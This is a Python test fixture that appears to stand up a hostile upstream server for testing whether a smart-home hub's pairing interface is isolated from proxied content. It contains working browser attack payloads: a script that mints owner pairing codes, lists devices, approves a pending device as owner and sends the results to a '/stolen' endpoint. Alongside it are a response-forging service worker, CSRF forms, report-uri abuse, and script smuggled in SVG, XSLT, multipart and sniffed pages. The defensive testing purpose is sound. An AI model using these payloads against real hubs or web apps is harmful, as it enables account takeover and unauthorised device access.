"""The server behind the hub as an attacker: a Hestia server whose other paths are pages, and all of them want to be the
owner's. Whatever they get hold of they send to `/stolen`, which is their own."""
import threading

import hestia

# Synchronous, so that all of it has been tried when the page is loaded. `PENDING` is a device that waits to be let in.
ATTACK = """
(function () {
  const steal = (what) => { const ask = new XMLHttpRequest(); ask.open("GET", "/stolen?" + encodeURIComponent(what), false); ask.send(); };
  const send = (method, path, body, type) => {
    const ask = new XMLHttpRequest();
    ask.open(method, path, false);
    if (type) ask.setRequestHeader("Content-Type", type);
    ask.send(body);
    return ask.responseText;
  };
  for (const attempt of [
    () => steal("origin " + self.origin),
    () => steal("code " + send("POST", "/hubpair/v1/codes", '{"kind": "once", "role": "owner"}', "application/json")),
    () => steal("devices " + send("GET", "/hubpair/v1/devices")),
    () => send("POST", "/hubpair/v1/devices/PENDING/approve", '{"role": "owner"}', "application/json"),
    () => send("POST", "/hubpair/v1/access", "do=approve&device=PENDING&role=owner", "application/x-www-form-urlencoded"),
    () => { localStorage.lamp = "was here"; },
    () => { document.cookie = "lamp=here; path=/; max-age=9999"; },
    () => navigator.serviceWorker.register("/worker.js", { scope: "/" }).then(() => steal("worker")),
    () => new Worker(URL.createObjectURL(new Blob(['fetch("/stolen?blob")']))),
    () => new SharedWorker("/worker.js"),
    () => { const popup = open("/hubpair/"); popup.onload = () => steal("popup " + popup.document.body.textContent); },
    () => document.forms[0].submit(),
  ]) try { attempt(); } catch { /* the next one */ }
})();
"""
WORKER = """
self.addEventListener("install", () => self.skipWaiting());
self.addEventListener("activate", (event) => event.waitUntil(clients.claim()));
self.addEventListener("fetch", (event) => event.respondWith(new Response("forged", { headers: { "Content-Type": "text/html" } })));
"""
FORM = """<form id="form" method="post" action="/hubpair/v1/access"><input type="hidden" name="do" value="approve">
<input type="hidden" name="device" value="PENDING"><input type="hidden" name="role" value="owner">
<button>Switch the lamp on</button></form><a id="ping" href="#here" ping="/hubpair/v1/devices/PENDING/approve">Lamp</a>
<a id="link" href="/hubpair/v1/devices">More</a>"""
FRAMES = """<iframe src="/hubpair/"></iframe><iframe srcdoc="&lt;script src=/attack.js>&lt;/script>"></iframe>
<iframe src="data:text/html,&lt;script src=/attack.js>&lt;/script>"></iframe>
<object data="/lamp.svg"></object><embed src="/lamp.svg"><img src="/hubpair/v1/codes"><img src=x onerror="eval(atob('MQ=='))">
<link rel="stylesheet" href="/hubpair/v1/devices"><video src="/hubpair/v1/devices"></video>"""
HTML = f"<!DOCTYPE html><title>Lamp</title>{FORM}<script>{ATTACK}</script><script src=/attack.js></script>{FRAMES}".encode()
SVG = f'<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><script><![CDATA[{ATTACK}]]></script></svg>'.encode()
XHTML = (f'<html xmlns="http://www.w3.org/1999/xhtml"><head><title>Lamp</title></head><body><script><![CDATA[{ATTACK}]]></script>'
         '</body></html>').encode()
XSLT = (b'<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="/lamp.xsl"?><lamp/>')
XSL = (b'<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><html><body>'
       b'<script src="/attack.js"/></body></html></xsl:template></xsl:stylesheet>')
PART = b"--x\r\nContent-Type: text/html\r\n\r\n" + HTML + b"\r\n--x--\r\n"
LOOSE = "sandbox allow-scripts allow-same-origin allow-forms allow-popups allow-modals allow-top-navigation allow-downloads"
REPORTS = [("Content-Security-Policy", "img-src 'none'; report-uri /hubpair/v1/devices/PENDING/approve; report-to x"),
           ("Reporting-Endpoints", 'x="/hubpair/v1/devices/PENDING/approve"'),
           ("Report-To", '{"group":"x","max_age":9999,"endpoints":[{"url":"/hubpair/v1/devices/PENDING/approve"}]}'),
           ("NEL", '{"report_to":"x","max_age":9999,"success_fraction":1.0}')]

# Path: status, content type, body, other fields.
PAGES = {
    "/lamp": (200, "text/html", HTML, []),
    "/lamp.loose": (200, "text/html", HTML, [("Content-Security-Policy", LOOSE)]),
    "/lamp.reports": (200, "text/html", HTML, REPORTS),
    "/lamp.404": (404, "text/html", HTML, []),
    "/lamp.500": (500, "text/html", HTML, []),
    "/lamp.svg": (200, "image/svg+xml", SVG, []),
    "/lamp.xhtml": (200, "application/xhtml+xml", XHTML, []),
    "/lamp.xml": (200, "application/xml", XSLT, []),
    "/lamp.xsl": (200, "text/xml", XSL, []),
    "/lamp.text": (200, "text/plain", HTML, [("X-Content-Type-Options", "sniff")]),
    "/lamp.none": (200, None, HTML, []),
    "/lamp.unknown": (200, "*/*", HTML, []),
    "/lamp.json": (200, "application/json", HTML, []),
    "/lamp.parts": (200, "multipart/x-mixed-replace; boundary=x", PART, []),
    "/lamp.elsewhere": (302, "text/html", b"", [("Location", "/lamp")]),
    "/lamp.refresh": (200, "text/html", HTML, [("Refresh", "0; url=/hubpair/v1/devices"), ("Link", "</attack.js>; rel=preload; as=script")]),
    "/lamp.state": (200, "text/html", HTML, [
        ("Clear-Site-Data", '"*"'), ("Set-Cookie", "lamp=here; Path=/; Secure"), ("Set-Cookie", "__Host-hubpair=here; Path=/; Secure"),
        ("Strict-Transport-Security", "max-age=9999; includeSubDomains"), ("Alt-Svc", 'h2="127.0.0.1:1"; ma=9999'),
        ("Service-Worker-Allowed", "/")]),
    "/attack.js": (200, "text/javascript", ATTACK.encode(), []),
    "/worker.js": (200, "text/javascript", WORKER.encode(), [("Service-Worker-Allowed", "/")]),
    "/stolen": (204, None, b"", []),
}
# What an owner may come to open.
OPENED = [path for path in PAGES if path.startswith("/lamp") and path != "/lamp.xsl"]


class Handler(hestia.Handler):
    def do_GET(self):
        path = self.path.split("?")[0]
        if path not in PAGES:
            return super().do_GET()
        with self.server.house.lock:
            self.server.seen.append(self.path)
        self.read_body()
        status, kind, body, fields = PAGES[path]
        pending = self.server.pending
        self.send_response(status)
        for name, value in [("Content-Type", kind)] * bool(kind) + fields:
            self.send_header(name, value.replace("PENDING", pending))
        body = body.replace(b"PENDING", pending.encode())
        if status != 204:
            self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)


class HostileUpstream(hestia.Server):
    def __init__(self):
        super().__init__(("127.0.0.1", 0), Handler)
        self.context = self.log = None
        self.house, self.turn = hestia.House(2), threading.Lock()
        self.serial = self.dead = self.echo = False
        self.fragile = True  # as the real one
        self.delay = 0
        # What was asked for of the pages, and the device that it wants to be let in.
        self.seen, self.pending = [], ""
        self.url = f"http://127.0.0.1:{self.server_port}"
        threading.Thread(target=self.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True).start()

    @property
    def stolen(self):
        with self.house.lock:
            return [each for each in self.seen if each.startswith("/stolen")]

    def stop(self):
        self.shutdown()
        self.server_close()
